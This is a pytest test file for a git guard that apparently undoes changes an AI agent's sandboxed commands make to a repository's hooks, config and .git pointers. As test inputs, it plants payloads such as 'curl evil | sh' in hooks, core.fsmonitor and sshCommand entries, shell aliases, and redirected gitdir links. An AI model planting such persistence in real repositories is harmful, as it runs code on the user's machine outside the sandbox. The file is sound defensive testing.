"""git's own files a confined call changes are put back: real confined processes, real git, real repositories.

What a change would have done is judged by running the person's git afterwards, unconfined, and looking
for the file its program would have made, not only by what mm says.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest
import trio

from mmd import paths
from mmd.procs import run_tool_process
from mmd.sandbox import Sandbox, gitguard, support
from mmd.sandbox.gitguard import Unreadable, config_entries, refused_entry
from mmd.tools.base import Limits, ToolContext, ToolError
from mmd.tools.builtin.files import EditFile, WriteFile
from mmd.tools.process import process_answer

needs_landlock = pytest.mark.skipif(not support().available, reason="the kernel offers no Landlock")


def git(*args: str, cwd: Path) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout


@pytest.fixture(autouse=True)
def not_racy(monkeypatch: pytest.MonkeyPatch) -> None:
    """The tests' repositories were made a moment ago: racy (paths.RACY_NS), every look would read them
    again. The rule has a test of its own, which puts it back."""
    monkeypatch.setattr(paths, "RACY_NS", 0)


@pytest.fixture
def repo(tmp_path: Path) -> tuple[Path, Sandbox]:
    """A repository with one commit, and a sandbox that may write it (and a temp dir of its own)."""
    gitguard.forget()
    work, temp = tmp_path / "work", tmp_path / "temp"
    work.mkdir()
    temp.mkdir()
    git("init", "-q", cwd=work)
    git("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "one", cwd=work)
    return work, Sandbox(roots=(str(work),), temp=str(temp))


def sh(command: str, work: Path, box: Sandbox):
    async def main():
        return await run_tool_process(
            ["bash", "-c", command], cwd=work, env={}, spill_path=work.parent / "spill.log", sandbox=box
        )

    return trio.run(main)


def hooks(work: Path) -> set[str]:
    return {p.name for p in (work / ".git" / "hooks").iterdir() if not p.name.endswith(".sample")}


# --- what a config may gain ----------------------------------------------------------------------------

INIT = (
    b"[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n"
)


@pytest.mark.parametrize(
    "added",
    [
        b'[user]\n\temail = model@example.com\n\tname = "A Model"\n',
        b'[remote "origin"]\n\turl = https://example.com/r.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n',
        b'[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n',
        b"[remote.origin]\n\turl = https://example.com/r.git\n",  # the old dotted form
        b'; a comment\n# another\n\n[color]\n\tui = auto\n[color "status"]\n\tadded = green\n',
    ],
)
def test_settings_and_names_a_command_adds_to_a_config_stand(added: bytes) -> None:
    assert refused_entry(INIT, INIT + added) is None
    assert refused_entry(None, INIT + added) is None  # a repository the command made


@pytest.mark.parametrize(
    ("added", "named"),
    [
        (b"[core]\n\tfsmonitor = touch /tmp/x\n", "core.fsmonitor"),
        (b"[core]\n\thooksPath = /tmp/hooks\n", "core.hookspath"),
        (b"[core]\n\tsshCommand = sh -c x\n", "core.sshcommand"),
        (b"[alias]\n\tst = !sh -c x\n", "alias.st"),
        (b"[include]\n\tpath = ../evil.cfg\n", "include.path"),
        (b'[includeIf "gitdir:/"]\n\tpath = ../evil.cfg\n', "includeif.gitdir:/.path"),
        (b'[filter "x"]\n\tclean = sh -c x\n', "filter.x.clean"),
        (b'[submodule "s"]\n\tupdate = !sh -c x\n', "submodule.s.update"),
        (b"[CORE]\n\tFSMonitor = x\n", "core.fsmonitor"),  # names are compared as git does: any case
        (b"[core]\n\tworktree = /home\n", "core.worktree"),  # only a submodule's git dir may have it
        (b"[remote.origin]\n\tuploadpack = sh -c x\n", "remote.origin.uploadpack"),
    ],
)
def test_an_entry_that_names_a_program_or_more_config_is_refused(added: bytes, named: str) -> None:
    assert refused_entry(INIT, INIT + added) == named


@pytest.mark.parametrize(
    "text",
    [
        b"[core] fsmonitor = x\n",  # an entry on the header's line: git reads it
        b"[core]\n\tbare = false \\\n\tfsmonitor = x\n",  # a value continued onto the next line
        b"\xef\xbb\xbf[core]\n\tbare = false\n",  # a byte order mark
        b"[core]\n\tbare = \xff\n",  # not UTF-8
        b"fsmonitor = x\n",  # an entry before any section
        b'[remote.origin "x"]\n\turl = y\n',
    ],
)
def test_a_config_not_in_gits_plain_form_is_refused_whole_never_guessed(text: bytes) -> None:
    with pytest.raises(Unreadable):
        config_entries(text)
    assert refused_entry(INIT, INIT + text) is not None


def test_a_value_is_read_without_its_blanks_however_many() -> None:
    # 200,000 blanks inside a value once cost the reader minutes (a lazy match before the line's end).
    [(key, _, value)] = config_entries(b"[core]\nbare = x" + b" " * 200_000 + b"y \t\n")
    assert key == ("core", False, "bare") and value.startswith("x ") and value.endswith(" y")


def test_a_key_the_repository_had_already_is_no_change_of_the_command() -> None:
    husky = INIT + b"[core]\n\thooksPath = .husky\n"
    assert refused_entry(husky, husky + b"[user]\n\temail = a@b\n") is None
    assert refused_entry(husky, husky + b"[core]\n\thooksPath = /tmp/other\n") == "core.hookspath"
    module = INIT + b"[core]\n\tworktree = ../../../sub\n"
    assert refused_entry(None, module, module=True) is None


@pytest.mark.parametrize(
    "text",
    [
        INIT,
        b'[Remote "Origin"]\n\tURL = x\n\tfetch=y ; comment\n[user]\n\tname = "a # b"\n',
        b"[color.Status]\n\tadded = green\n[user]\n\tuseConfigOnly\n",
        b'  [core]  # c\n  bare=false\n\n\n[x  "y"]\n\tk\t=v\r\n',
    ],
)
def test_what_the_guard_reads_of_a_config_is_what_git_reads(tmp_path: Path, text: bytes) -> None:
    """Where the guard reads a config at all, its keys are git's own: a text the two read apart would be a
    way round the guard."""
    path = tmp_path / "config"
    path.write_bytes(text)
    listed = subprocess.run(
        ["git", "config", "--file", str(path), "--list", "-z"], check=True, capture_output=True
    ).stdout
    gits = sorted(entry.split(b"\n", 1)[0].decode() for entry in listed.split(b"\0") if entry)
    ours = sorted(
        f"{name}.{sub}.{key}" if has_sub else f"{name}.{key}"
        for (name, has_sub, key), sub, _ in config_entries(text)
    )
    assert ours == gits


# --- confined commands -----------------------------------------------------------------------------------


@needs_landlock
def test_a_hook_a_command_makes_is_set_aside_and_never_runs(repo) -> None:
    work, box = repo
    ran = work.parent / "ran"
    result = sh(
        f"printf '#!/bin/sh\\ntouch {ran}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        work,
        box,
    )
    assert result.exit_code == 0
    assert result.git_put_back == (
        ".git/hooks/pre-commit: a hook made (what the command wrote is kept as .git/hooks/pre-commit.mm-refused)",
    )
    assert hooks(work) == {"pre-commit.mm-refused"}
    git("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "two", cwd=work)
    assert not ran.exists()  # the person's own commit, unconfined, ran nothing
    answer = process_answer(result)
    assert "[mm: this command changed git's own files" in answer.content
    assert answer.data["git_put_back"] == list(result.git_put_back)


@needs_landlock
def test_a_changed_hook_and_its_executable_bit_are_put_back(repo) -> None:
    work, box = repo
    hook = work / ".git" / "hooks" / "pre-push"
    hook.write_text("#!/bin/sh\nexit 0\n")  # the person's, not executable: git skips it
    assert sh("chmod +x .git/hooks/pre-push", work, box).git_put_back
    assert hook.stat().st_mode & 0o111 == 0
    assert sh("echo 'curl x | sh' >> .git/hooks/pre-push", work, box).git_put_back
    assert hook.read_text() == "#!/bin/sh\nexit 0\n"


@needs_landlock
def test_a_config_entry_that_runs_a_program_is_put_back_and_a_name_stands(repo) -> None:
    work, box = repo
    ran = work.parent / "ran"
    result = sh(f"git config core.fsmonitor 'touch {ran}' && git config user.email m@example.com", work, box)
    assert result.git_put_back == (
        ".git/config: core.fsmonitor set (what the command wrote is kept as .git/config.mm-refused)",
    )
    git("status", cwd=work)
    assert not ran.exists()
    assert "fsmonitor" in (work / ".git" / "config.mm-refused").read_text()
    # Settings alone stand: a command may still name a remote and an author.
    assert (
        sh(
            "git config user.email m@example.com && git remote add origin https://e/r.git", work, box
        ).git_put_back
        == ()
    )
    assert git("config", "remote.origin.url", cwd=work).strip() == "https://e/r.git"


@needs_landlock
def test_a_repository_a_command_makes_deeper_in_the_project_is_guarded_too(repo) -> None:
    work, box = repo
    ran = work.parent / "ran"
    result = sh(f"git init -q sub && git -C sub config core.fsmonitor 'touch {ran}'", work, box)
    assert result.git_put_back == (
        "sub/.git/config: core.fsmonitor set (what the command wrote is kept as sub/.git/config.mm-refused)",
    )
    subprocess.run(["git", "status"], cwd=work / "sub", check=False, capture_output=True)
    assert not ran.exists()
    # A plain `git init` or clone is left alone.
    assert sh("git init -q other && git clone -q . copy", work, box).git_put_back == ()


@needs_landlock
def test_a_git_dir_copied_back_over_itself_or_swapped_for_a_pointer_is_caught(repo) -> None:
    work, box = repo
    result = sh(
        "mv .git .git2 && cp -a .git2 .git && rm -rf .git2 && echo x > .git/hooks/post-checkout", work, box
    )
    assert [line.split(":")[0] for line in result.git_put_back] == [".git/hooks/post-checkout"]
    evil = box.temp + "/evil"
    result = sh(f"git init -q --bare {evil} && mv .git .git.real && echo 'gitdir: {evil}' > .git", work, box)
    assert result.git_put_back[0].startswith(".git: a .git that leads git elsewhere")
    assert not (work / ".git").exists() and (work / ".git.mm-refused").is_file()


@needs_landlock
def test_a_hooks_folder_swapped_for_a_link_is_made_again_with_the_hooks_it_held(repo) -> None:
    work, box = repo
    (work / ".git" / "hooks" / "commit-msg").write_text("#!/bin/sh\n")
    elsewhere = Path(box.temp) / "hooks"
    result = sh(f"mkdir {elsewhere} && rm -rf .git/hooks && ln -s {elsewhere} .git/hooks", work, box)
    assert result.git_put_back[0].startswith(".git/hooks: a link or file where git keeps a folder")
    assert (work / ".git" / "hooks").is_dir() and not (work / ".git" / "hooks").is_symlink()
    assert (work / ".git" / "hooks" / "commit-msg").read_text() == "#!/bin/sh\n"


@needs_landlock
def test_a_git_file_may_lead_only_to_a_git_dir_the_guard_looks_at(repo) -> None:
    work, box = repo
    # A worktree's pointer into .git/worktrees, which the guard looks at, stands.
    assert sh("git worktree add -q wt", work, box).git_put_back == ()
    assert (work / "wt" / ".git").is_file()
    # One into another folder of .git, whose config no guard reads, does not.
    ran = work.parent / "ran"
    made = sh(
        "mkdir -p .git/logs/x sub && cp -r .git/HEAD .git/objects .git/refs .git/logs/x/ && "
        f"printf '[core]\\n\\tfsmonitor = touch {ran}\\n' > .git/logs/x/config && "
        "echo 'gitdir: ../.git/logs/x' > sub/.git",
        work,
        box,
    )
    assert made.git_put_back == (
        "sub/.git: a .git that leads git elsewhere for its config and hooks "
        "(what the command wrote is kept as sub/.git.mm-refused)",
    )
    subprocess.run(["git", "status"], cwd=work / "sub", check=False, capture_output=True)
    assert not ran.exists()


@needs_landlock
def test_a_folder_too_crowded_to_look_through_or_a_file_too_large_to_keep_is_still_caught(
    repo, monkeypatch
) -> None:
    work, box = repo
    monkeypatch.setattr(gitguard, "MAX_NAMES", 40)
    monkeypatch.setattr(gitguard, "MAX_FILE", 64)
    (work / ".git" / "hooks" / "commit-msg").write_text("#!/bin/sh\n")
    big = work / ".git" / "hooks" / "pre-push"
    big.write_text("#!/bin/sh\n" + "# the person's own, larger than the guard keeps\n" * 4)
    # Past the names read, a hook hidden among many others is not missed: the folder goes aside whole.
    result = sh(
        "for i in $(seq 100); do touch .git/hooks/a$i; done; echo x > .git/hooks/pre-commit", work, box
    )
    assert result.git_put_back[0].startswith(".git/hooks: a folder of more than 40 names")
    assert hooks(work) == {"commit-msg", "pre-push"}
    # A file past the bytes kept is known by its inode, size and change time: changed, it is set aside.
    result = sh("echo 'curl x | sh' >> .git/hooks/pre-push", work, box)
    assert result.git_put_back == (
        ".git/hooks/pre-push: a hook changed (what the command wrote is kept as .git/hooks/pre-push.mm-refused);"
        " the old one, larger than mm keeps, could not be written back",
    )
    assert not big.exists()


@needs_landlock
def test_what_the_guard_keeps_between_calls_is_bounded_however_many_repositories_a_command_makes(
    repo, monkeypatch
) -> None:
    work, box = repo
    monkeypatch.setattr(gitguard, "MAX_REPOS", 8)
    made = sh("for i in $(seq 30); do git init -q r$i; done", work, box)
    assert made.git_put_back == ()
    assert len(gitguard._repos) <= 8
    # Those forgotten are still guarded: their next call takes them afresh.
    ran = work.parent / "ran"
    result = sh(f"git -C r1 config core.fsmonitor 'touch {ran}'", work, box)
    assert result.git_put_back[0].startswith("r1/.git/config: core.fsmonitor set")


def test_the_crowded_folders_known_are_only_those_whose_listing_is_kept(tmp_path: Path, monkeypatch) -> None:
    # Repositories made and deleted, each with a hooks folder past the names read: the folders known crowded
    # used to outlive their listings (and their folders), one for each, for the daemon's life.
    gitguard.forget()
    monkeypatch.setattr(gitguard, "MAX_NAMES", 3)
    monkeypatch.setattr(gitguard, "MAX_LISTED", 8)
    for n in range(20):
        hooks_folder = tmp_path / f"r{n}" / ".git" / "hooks"
        hooks_folder.mkdir(parents=True)
        for i in range(5):
            (hooks_folder / f"h{i}").write_text("")
        gitguard.release(gitguard.before([str(tmp_path / f"r{n}")]))
        assert str(hooks_folder) in gitguard._crowded  # judged crowded while its listing is kept
        shutil.rmtree(tmp_path / f"r{n}")
    assert gitguard._crowded <= set(gitguard._listed) and len(gitguard._listed) <= 8
    gitguard.forget()
    assert not gitguard._crowded


@needs_landlock
def test_what_the_person_changes_between_calls_is_theirs(repo) -> None:
    work, box = repo
    assert sh("true", work, box).git_put_back == ()
    (work / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")  # the person, unconfined
    git("config", "core.hooksPath", ".githooks", cwd=work)
    assert sh("echo x > notes.txt", work, box).git_put_back == ()
    assert hooks(work) == {"pre-commit"}
    assert git("config", "core.hooksPath", cwd=work).strip() == ".githooks"


@needs_landlock
def test_no_guard_without_a_sandbox(repo) -> None:
    work, _ = repo
    result = sh("echo x > .git/hooks/pre-commit", work, Sandbox(mode="off"))
    assert result.git_put_back == ()
    assert hooks(work) == {"pre-commit"}


# --- the file tools --------------------------------------------------------------------------------------


def ctx_for(work: Path, box: Sandbox) -> ToolContext:
    return ToolContext(
        cwd=work,
        session_id="s",
        call_id="c",
        session_dir=work.parent / "session",
        limits=Limits(),
        sandbox=box,
    )


@pytest.mark.parametrize("target", [".git/hooks/pre-commit", ".git/config", "link/hooks/post-merge"])
def test_the_file_tools_do_not_write_in_git_under_a_sandbox(repo, target: str) -> None:
    work, box = repo
    (work / "link").symlink_to(work / ".git")
    args = {"path": target, "content": "#!/bin/sh\n"}

    async def write(tool_box: Sandbox):
        return await WriteFile().run(args, ctx_for(work, tool_box))

    with pytest.raises(ToolError) as refused:
        trio.run(write, box)
    assert refused.value.code == "git_internals"
    assert "git runs hooks and config entries from there" in str(refused.value)
    if target == ".git/config":
        with pytest.raises(ToolError, match="git's own files"):
            trio.run(
                EditFile().run,
                {"path": target, "old_text": "bare", "new_text": "bare", "replace_all": False},
                ctx_for(work, box),
            )
    assert trio.run(write, Sandbox(mode="off")).ok  # no sandbox: the person allowed everything


def test_a_config_changed_within_the_tick_of_the_look_before_is_put_back(tmp_path: Path, monkeypatch) -> None:
    """On a file system of coarse timestamps, a config rewritten at the same size in the same tick as the
    look before the call keeps its inode, size and ctime: the change was not seen, and a core.fsmonitor
    planted so ran in the person's next git. A stamp that recent (paths.RACY_NS) is taken as a change."""
    monkeypatch.setattr(paths, "RACY_NS", 2 * 10**9)
    work = tmp_path / "work"
    work.mkdir()
    git("init", "-q", cwd=work)
    config = work / ".git" / "config"
    text = config.read_bytes()
    line = b"\tlogallrefupdates = true\n"
    assert line in text
    planted = b"\tfsmonitor = /tmp/x" + b"x" * (len(line) - 20) + b"\n"
    assert len(planted) == len(line)
    real, tick = gitguard._lstat, time.time_ns() - 10**8

    def coarse(path: str) -> os.stat_result | None:  # every change in this tick is stamped the tick
        st = real(path)
        if st is None:
            return None
        return os.stat_result(
            (*st[:9], min(st.st_ctime, tick / 1e9)), {"st_ctime_ns": min(st.st_ctime_ns, tick)}
        )

    monkeypatch.setattr(gitguard, "_lstat", coarse)
    gitguard.forget()
    taken = gitguard.before([str(work)])
    ino = os.stat(config).st_ino
    with open(config, "r+b") as f:  # in place: the same inode and size
        f.write(text.replace(line, planted))
    assert (os.stat(config).st_ino, coarse(str(config)).st_ctime_ns) == (ino, tick)
    notes = gitguard.after(taken, [str(work)])
    assert notes and notes[0].startswith(".git/config: core.fsmonitor")
    assert config.read_bytes() == text


def test_a_look_after_that_reads_a_too_recent_stamp_puts_nothing_back_when_nothing_differs(
    tmp_path: Path, monkeypatch
) -> None:
    """A stamp too recent to trust (paths.RACY_NS) makes the look after a call read what the files hold; when
    each holds what it held before the call, that is all it does (nothing compared further, nothing read
    twice), and a change made in the same tick is still put back."""
    monkeypatch.setattr(paths, "RACY_NS", 10**18)  # every stamp too recent
    work = tmp_path / "work"
    work.mkdir()
    git("init", "-q", cwd=work)
    hook = work / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 0\n")
    gitguard.forget()
    reads: list[int] = []
    real_read = gitguard._read

    def counted(paths_: list) -> dict:
        reads.append(len(paths_))
        return real_read(paths_)

    monkeypatch.setattr(gitguard, "_read", counted)
    real_guarded = gitguard._guarded_gitdirs
    monkeypatch.setattr(gitguard, "_guarded_gitdirs", lambda folders: pytest.fail("nothing to compare"))
    for _ in range(3):
        taken = gitguard.before([str(work)])
        reads.clear()
        assert gitguard.after(taken, [str(work)]) == []
        assert len(reads) == 1  # read once, found the same
    monkeypatch.setattr(gitguard, "_guarded_gitdirs", real_guarded)
    taken = gitguard.before([str(work)])
    hook.write_text("#!/bin/sh\ncurl evil | sh\n")
    notes = gitguard.after(taken, [str(work)])
    assert notes and notes[0].startswith(".git/hooks/pre-commit: a hook changed")
    assert hook.read_text() == "#!/bin/sh\nexit 0\n"
